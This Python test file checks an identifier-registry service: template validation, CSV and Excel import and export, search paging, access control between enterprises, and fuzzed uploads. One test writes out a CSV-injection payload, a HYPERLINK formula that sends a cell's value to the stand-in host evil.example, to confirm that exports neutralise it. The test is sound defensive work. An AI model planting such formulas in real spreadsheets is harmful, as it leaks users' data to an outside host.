"""Typed templates over HTTP, and an enterprise's import, export and search, on both backends."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import httpx
import pytest
from openpyxl import Workbook, load_workbook

from node.demo import DEMO_TEMPLATE

from .helpers import create_enterprise

SAMPLE = Path(__file__).parents[2] / "examples" / "products.csv"
BASE = "/enterprise/v1"
VERSION = DEMO_TEMPLATE["version"]
QUERY = {"prefix": "88.118.8", "template": VERSION}


@pytest.fixture
def client(node_server):
    with httpx.Client(base_url=node_server.url, timeout=60) as client:
        yield client


def _token(client: httpx.Client, credential: dict) -> dict:
    response = client.post(
        "/identity/token",
        json={"username": credential["username"], "password": credential["password"]},
    )
    assert response.status_code == 200, response.text
    return {"Authorization": f"Bearer {response.json()['data']['token']}"}


@pytest.fixture
def auth(client: httpx.Client, node_server) -> dict:
    headers = _token(client, create_enterprise(node_server.url, "Acme", "88.118.8"))
    created = client.post("/snms/api/v5/template", json=DEMO_TEMPLATE, headers=headers)
    assert created.json()["status"] == 1, created.text
    return headers


def _import(client: httpx.Client, auth: dict, content: bytes, **params) -> dict:
    response = client.post(
        f"{BASE}/imports", params={**QUERY, **params}, content=content, headers=auth
    )
    assert response.status_code == 200, response.text
    return response.json()["data"]


def _finished(client: httpx.Client, auth: dict, job: dict) -> dict:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        status = client.get(job["status"], headers=auth).json()["data"]
        if status["state"] in ("done", "failed"):
            return status
        time.sleep(0.05)
    raise AssertionError(f"import {job['id']} did not finish: {status}")


def _handles(client: httpx.Client, auth: dict, **params) -> list[str]:
    response = client.get(
        f"{BASE}/identifiers", params={"prefix": "88.118.8", **params}, headers=auth
    )
    assert response.status_code == 200, response.text
    return [item["handle"] for item in response.json()["data"]["items"]]


def test_the_schema_of_a_template_and_typed_rules_on_snms_writes(client, auth) -> None:
    schema = client.get(
        "/snms/api/v5/template/schema",
        params={"prefix": "88.118.8", "version": VERSION},
        headers=auth,
    ).json()["data"]
    assert schema["properties"]["2002"] == {
        "title": "生产日期",
        "description": "idType productionDate, index 2002",
        "type": "string",
        "format": "date",
    }
    assert schema["required"] == ["2000", "2001", "2002"]
    values = [
        {"index": 2000, "type": "productName", "data": "电机"},
        {"index": 2001, "type": "model", "data": "M-1"},
        {"index": 2002, "type": "productionDate", "data": "2026-13-01"},
    ]
    body = {"handle": "88.118.8/T1", "templateVersion": VERSION, "value": values}
    refused = client.post("/identityv2/data", json=body, headers=auth)
    assert refused.status_code == 400 and refused.json()["status"] == -2
    assert refused.json()["message"] == (
        "item '生产日期' (value index 2002) must be a date as YYYY-MM-DD, got '2026-13-01'"
    )
    values[2]["data"] = "2026-12-01"
    batch = [
        body,
        {
            **body,
            "handle": "88.118.8/T2",
            "value": [*values, {"index": 2004, "type": "quantity", "data": "1.5"}],
        },
    ]
    results = client.post("/identityv2/data/batchCreate", json=batch, headers=auth).json()["data"]
    assert results[0]["msg"] == "success"
    assert results[1]["msg"] == "item '数量' (value index 2004) must be an integer, got '1.5'"
    # Handle REST changes to a templated record pass the same rules.
    change = {
        "values": [{"index": 2003, "type": "weightKg", "data": {"format": "string", "value": "-1"}}]
    }
    put = client.put(
        "/api/handles/88.118.8/T1", params={"index": "various"}, json=change, headers=auth
    )
    assert put.status_code == 400, put.text
    assert "item '重量(kg)' (value index 2003) must be at least 0, got -1" in put.json()["message"]


def test_dry_run_lists_the_bad_row_and_writes_nothing(client, auth) -> None:
    report = _import(client, auth, SAMPLE.read_bytes(), dryRun="true")
    assert report["rows"] == 5 and report["valid"] == 4 and report["failed"] == 1
    assert report["errors"] == [
        {
            "row": 5,
            "column": "生产日期",
            "message": "item '生产日期' (value index 2002) must be a date as YYYY-MM-DD, got '2026-02-30'",
        }
    ]
    assert _handles(client, auth, template=VERSION) == []


def test_import_skips_the_bad_row_and_a_retry_reports_registered_rows(client, auth) -> None:
    job = _import(client, auth, SAMPLE.read_bytes())
    done = _finished(client, auth, job)
    assert (done["state"], done["total"], done["done"]) == ("done", 5, 5)
    assert (done["registered"], done["failed"], done["alreadyRegistered"]) == (4, 1, 0)
    assert [e["row"] for e in done["errors"]] == [5]
    assert len(_handles(client, auth, template=VERSION)) == 4
    again = _finished(client, auth, _import(client, auth, SAMPLE.read_bytes()))
    assert again["id"] == job["id"]
    assert (again["registered"], again["alreadyRegistered"], again["failed"]) == (0, 4, 1)
    changed = SAMPLE.read_bytes().replace("电机控制器".encode(), "电机控制器 v2".encode())
    third = _finished(client, auth, _import(client, auth, changed))
    assert (third["alreadyRegistered"], third["conflicts"]) == (3, 1)
    conflict = next(e for e in third["errors"] if e["row"] == 2)
    assert conflict["message"] == "88.118.8/P2026001 is registered already with other data"
    # The records resolve as registered, with the node's TEMPLATE value.
    record = client.get("/api/handles/88.118.8/P2026001").json()
    by_index = {v["index"]: v["data"]["value"] for v in record["values"]}
    assert by_index[1001] == VERSION and by_index[2000] == "电机控制器" and by_index[2003] == "12.5"


def _rows_of_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_export_round_trips_as_csv_and_excel(client, auth) -> None:
    _finished(client, auth, _import(client, auth, SAMPLE.read_bytes()))
    sample = _rows_of_csv(SAMPLE.read_bytes())
    wanted = [sample[0], *(row for row in sample[1:] if row[0] != "P2026004")]
    exported = client.get(f"{BASE}/export", params={**QUERY}, headers=auth)
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = _rows_of_csv(exported.content)
    assert [row[: len(wanted[0])] for row in rows] == wanted
    assert rows[0][-2:] == ["templateVersion", "createdAt"]
    again = _finished(client, auth, _import(client, auth, exported.content))
    assert (again["alreadyRegistered"], again["failed"], again["registered"]) == (4, 0, 0)
    workbook = client.get(f"{BASE}/export", params={**QUERY, "format": "xlsx"}, headers=auth)
    assert workbook.status_code == 200
    sheet = load_workbook(io.BytesIO(workbook.content), read_only=True).worksheets[0]
    cells = [[c if c is not None else "" for c in row] for row in sheet.iter_rows(values_only=True)]
    assert [row[: len(wanted[0])] for row in cells] == wanted
    from_excel = _finished(client, auth, _import(client, auth, workbook.content))
    assert (from_excel["alreadyRegistered"], from_excel["failed"]) == (4, 0)


def test_excel_upload_with_a_column_mapping(client, auth) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["编号", "name", "model", "date", "qty"])
    sheet.append(["X1", "泵", "P-1", "2026-01-02", 3])
    sheet.append(["X2", "阀", "v1", "2026-01-02", 3])
    buffer = io.BytesIO()
    book.save(buffer)
    mapping = ["编号=suffix", "name=产品名称", "model=model", "date=2002", "qty=quantity"]
    report = _import(client, auth, buffer.getvalue(), dryRun="1", map=mapping)
    assert report["rows"] == 2 and report["valid"] == 1
    assert report["errors"][0]["row"] == 3 and report["errors"][0]["column"] == "model"
    assert "must match the pattern '^[A-Z0-9-]+$'" in report["errors"][0]["message"]
    done = _finished(client, auth, _import(client, auth, buffer.getvalue(), map=mapping))
    assert done["registered"] == 1


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the request body is empty"),
        (b"name\n", "needs a 'suffix' column"),
        ("suffix,型号,生产日期\n".encode(), "no column for the required items '产品名称'"),
        (b"suffix,\xff\xfe\n", "not UTF-8"),
        (b"PK\x03\x04broken", "not a readable Excel workbook"),
        ("suffix,产品名称,型号,生产日期\n".encode(), "no data rows"),
    ],
)
def test_bad_files_are_refused_clearly(client, auth, content: bytes, message: str) -> None:
    response = client.post(
        f"{BASE}/imports", params={**QUERY, "dryRun": "true"}, content=content, headers=auth
    )
    assert response.status_code == 400, response.text
    assert response.json()["status"] == -2 and message in response.json()["message"]


def test_search_filters_and_pages(client, auth) -> None:
    _finished(client, auth, _import(client, auth, SAMPLE.read_bytes()))
    assert _handles(client, auth, suffix="P202600?") == [
        f"88.118.8/P202600{n}" for n in (1, 2, 3, 5)
    ]
    assert _handles(client, auth, suffix="p*") == []  # exact case
    assert _handles(client, auth, suffix="*3") == ["88.118.8/P2026003"]
    assert _handles(client, auth, template="2.0") == []
    assert (
        len(_handles(client, auth, **{"from": "2020-01-01", "to": "2099-01-01"})) == 5
    )  # and ADMIN
    assert _handles(client, auth, to="2020-01-01") == []
    first = client.get(
        f"{BASE}/identifiers",
        params={"prefix": "88.118.8", "template": VERSION, "limit": 3},
        headers=auth,
    ).json()["data"]
    assert len(first["items"]) == 3 and first["next"] == "88.118.8/P2026003"
    rest = _handles(client, auth, after=first["next"], limit=3, template=VERSION)
    assert rest == ["88.118.8/P2026005"]
    bad = client.get(
        f"{BASE}/identifiers", params={"prefix": "88.118.8", "from": "soon"}, headers=auth
    )
    assert bad.status_code == 400 and "from= must be a date" in bad.json()["message"]


def test_an_enterprise_reaches_only_its_own_prefix(client, auth, node_server) -> None:
    job = _import(client, auth, SAMPLE.read_bytes())
    other = _token(client, create_enterprise(node_server.url, "Other", "88.118.9"))
    for method, path, params in [
        ("GET", f"{BASE}/identifiers", {"prefix": "88.118.8"}),
        ("GET", f"{BASE}/export", {"prefix": "88.118.8"}),
        ("POST", f"{BASE}/imports", {**QUERY, "dryRun": "true"}),
        ("GET", job["status"], {}),
    ]:
        content = SAMPLE.read_bytes() if method == "POST" else None
        response = client.request(method, path, params=params, content=content, headers=other)
        assert response.status_code == 403, (path, response.text)
        assert response.json()["status"] == -3
        anonymous = client.request(method, path, params=params, content=content)
        assert anonymous.status_code == 401 and anonymous.json()["status"] == -1


def test_fuzzed_uploads_get_a_report_or_a_4xx(client, auth) -> None:
    """Random cells under the sample's header, and mangled bytes: never a 5xx."""
    import random

    rng = random.Random(2107)
    header = SAMPLE.read_bytes().split(b"\n", 1)[0]
    alphabet = ["", "x", "1", "-1.5e3", "2026-02-29", "A", "https://a.b", '"', ",", "\u00a0", "\x00",
                "電機", "/", "*", "a" * 300, "=1+1", "\r", "88.118.8/x"]  # fmt: skip
    for case in range(40):
        rows = [
            ",".join(rng.choice(alphabet) for _ in range(rng.randint(0, 10))).encode()
            for _ in range(rng.randint(1, 6))
        ]
        content = b"\n".join([header, *rows])
        if case % 4 == 0:
            content = bytes(b ^ rng.randrange(256) if rng.random() < 0.02 else b for b in content)
        response = client.post(
            f"{BASE}/imports", params={**QUERY, "dryRun": "true"}, content=content, headers=auth
        )
        assert response.status_code in (200, 400), (case, response.text)
        body = response.json()
        if response.status_code == 200:
            report = body["data"]
            assert report["valid"] + report["failed"] == report["rows"]
            assert all(error["message"] for error in report["errors"])
        else:
            assert body["status"] == -2 and body["message"]


def test_a_csv_export_opens_formulas_as_text_and_imports_them_back(client, auth) -> None:
    """A registered value a spreadsheet would run (CSV injection) is exported led by the
    apostrophe that makes it text, and the export imports back to the very same value."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    sample = _rows_of_csv(SAMPLE.read_bytes())
    header, row = sample[0], list(sample[1])
    row[header.index("产品名称")] = formula
    upload = io.StringIO()
    csv.writer(upload).writerows([header, row])
    done = _finished(client, auth, _import(client, auth, upload.getvalue().encode()))
    assert (done["registered"], done["failed"]) == (1, 0), done

    exported = client.get(f"{BASE}/export", params={**QUERY}, headers=auth)
    assert exported.status_code == 200, exported.text
    rows = _rows_of_csv(exported.content)
    column = rows[0].index("产品名称")
    assert rows[1][0] == row[0] and rows[1][column] == "'" + formula
    assert not any(cell.startswith("=") for line in rows for cell in line)

    # The export, under a new suffix, registers the value as it was, apostrophe and all gone.
    rows[1][0] = "P2026-AGAIN"
    again = io.StringIO()
    csv.writer(again).writerows([rows[0], rows[1]])
    done = _finished(client, auth, _import(client, auth, again.getvalue().encode()))
    assert (done["registered"], done["failed"]) == (1, 0), done
    record = client.get("/api/handles/88.118.8/P2026-AGAIN").json()
    assert formula in [value["data"]["value"] for value in record["values"]]
